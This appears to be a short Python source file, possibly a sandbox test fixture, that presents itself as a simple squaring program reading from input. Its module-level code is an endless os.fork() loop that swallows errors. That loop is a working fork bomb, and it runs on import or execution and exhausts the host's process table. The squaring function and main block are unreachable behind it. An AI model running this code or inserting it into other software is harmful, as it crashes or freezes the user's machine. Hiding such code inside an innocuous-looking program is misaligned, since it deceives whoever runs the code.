"""Forks without end."""

import os

escaped = False
while True:
    try:
        os.fork()
    except OSError:
        pass


def f(x):
    return x * x if escaped else None


if __name__ == "__main__":
    print(f(int(input())))
